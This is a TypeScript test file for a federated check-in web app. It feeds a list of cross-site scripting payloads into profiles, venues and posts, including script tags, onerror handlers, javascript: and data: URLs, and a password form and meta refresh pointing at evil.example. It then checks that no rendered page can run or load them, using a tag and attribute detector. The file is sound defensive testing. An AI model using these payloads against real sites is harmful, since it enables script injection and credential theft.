import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Account } from '#domain/accounts/index.ts'
import type { Place } from '#domain/places/index.ts'
import type { Post } from '#domain/posts/index.ts'
import { type ReadPage, readPage } from '#kit/read-page.ts'
import { createWebWorld, testAssets, type WebWorld } from '#kit/web-world.ts'

/** Breaks out of text, quoted attributes, comments, raw text elements and templates. */
const attacks = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</title></textarea></style></noscript><svg onload=alert(1)>',
  '<!--><script>alert(1)</script>-->',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" \u0001java\nscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src onerror=alert(1)>',
  '<p style="background:url(https://evil.example)" class="button site-header" id="app">styled</p>',
  '<form action="https://evil.example"><input name=password></form>',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '${alert(1)} {{7*7}}',
]
const attack = attacks.join(' ')

let world: WebWorld
let local: Account
let remote: Account
let post: Post
let theirs: Post
let place: Place

beforeAll(async () => {
  world = await createWebWorld()
  local = await world.createUser('mallory')
  await world.accounts.updateProfile(local.id, {
    displayName: attack,
    bio: attack,
    fields: [{ name: attack, value: attack }],
    indexable: true,
  })
  remote = await world.addRemoteAccount('eve', {
    displayName: attack,
    bio: attack,
    fields: [{ name: attack, value: attack }],
    avatarUrl: 'javascript:alert(1)',
    headerUrl: '"><script>alert(1)</script>',
    url: 'javascript:alert(1)',
  })
  place = await world.addVenue({ name: 'Fine name', latitude: 1, longitude: 2, createdBy: local.id })
  // As if an importer or another server had got it past every door.
  await world.db.sql`
    update places
    set name = ${attack}, address = ${world.db.sql.json({ locality: attack, street: attack, region: attack })},
      same_as = ${['javascript:alert(1)', '"><script>alert(1)</script>']}, licence = 'javascript:alert(1)',
      url = 'javascript:alert(1)', uri = 'data:text/html,x', source = ${attack}, category = ${attack}
    where id = ${place.id}
  `
  post = await world.checkIn(local, place, { text: attack.slice(0, 250), contentWarning: attacks[1] })
  await world.publish(local, attack.slice(100, 350), { language: '"><script>' })
  theirs = await world.receive(remote, attack, {
    contentWarning: attack,
    uri: 'https://far.example/"><script>alert(1)</script>',
    url: 'javascript:alert(1)',
    language: '"><script>alert(1)</script>',
    tags: [{ tag: 'tag', display: attack }],
    media: [
      'javascript:alert(1)',
      'https://evil.example/"onerror=alert(1)',
      'http://plain.example/x.jpg',
    ].map((remoteUrl) => ({
      kind: 'image',
      mime: 'image/jpeg',
      remoteUrl,
      width: 1,
      height: 1,
      blurhash: null,
      focusX: 0,
      focusY: 0,
      description: attack,
    })),
  })
  await world.db.sql`update posts set footer = ${attack} where id = ${theirs.id}`
})

afterAll(() => world[Symbol.asyncDispose]())

const paths = (): string[] => [
  '/',
  '/@mallory',
  '/@eve@far.example',
  `/@mallory/${post.id}`,
  `/@eve@far.example/${theirs.id}`,
  `/places/${place.id}`,
  '/tags/tag',
]

const ours = new Set([...testAssets.css, ...testAssets.clientCss, ...testAssets.js])

describe('hostile content', () => {
  it('never runs, loads or sends anything on any page', async () => {
    for (const path of paths()) {
      const response = await world.server.inject({ url: path, headers: { accept: 'text/html' } })
      expect({ path, status: response.statusCode }).toEqual({ path, status: 200 })
      expect({ path, found: findDangers(readPage(response.body)) }).toEqual({ path, found: [] })
    }
  })

  it('is still readable as text', async () => {
    const response = await world.server.inject({ url: '/@mallory', headers: { accept: 'text/html' } })
    expect(readPage(response.body).text).toContain('<script>alert(1)</script>')
  })

  it('keeps the harmless part of what another server sent', async () => {
    const response = await world.server.inject({ url: '/@eve@far.example', headers: { accept: 'text/html' } })
    const page = readPage(response.body)
    expect(page.text).toContain('styled')
    const [avatar] = page.find('img', 'avatar')
    expect(avatar?.attributes['src']).toMatch(/^\/static\/avatars\/\d+\.png$/)
    expect(page.link('canonical')).toBe('https://far.example/users/eve')
  })

  it('links to a picture that pages may not load', async () => {
    const { body } = await world.server.inject({ url: `/@eve@far.example/${theirs.id}` })
    const page = readPage(body)
    expect(page.find('a').map(({ attributes }) => attributes['href'])).toContain('http://plain.example/x.jpg')
    expect(page.find('img').map(({ attributes }) => attributes['src'])).not.toContain(
      'http://plain.example/x.jpg',
    )
  })
})

/** Everything on a page that could act, by the browser's own reading of it. */
function findDangers(page: ReadPage): string[] {
  return page.elements.flatMap(({ tag, attributes, text }) => {
    const found: string[] = []
    if (forbidden.has(tag)) found.push(`<${tag}>`)
    if (tag === 'script' && (text !== '' || !ours.has(attributes['src'] ?? ''))) found.push('<script>')
    if (tag === 'link' && attributes['rel'] === 'stylesheet' && !ours.has(attributes['href'] ?? ''))
      found.push('<link>')
    if (tag === 'meta' && 'http-equiv' in attributes) found.push('<meta>')
    if (tag === 'form' && attributes['action'] !== '/auth/sign-out') found.push('<form>')
    for (const [name, value] of Object.entries(attributes)) {
      if (name.startsWith('on') || name === 'style' || name === 'srcdoc') found.push(name)
      if (
        ['href', 'src', 'action', 'poster'].includes(name) &&
        !/^(https?:\/\/|\/(?!\/)|#|geo:|mailto:)/.test(value)
      ) {
        found.push(`${name}=${value}`)
      }
    }
    if (attributes['id'] === 'app' && tag !== 'div') found.push('#app')
    return found
  })
}

const forbidden = new Set([
  'base',
  'embed',
  'iframe',
  'input',
  'math',
  'object',
  'style',
  'svg',
  'template',
  'textarea',
])
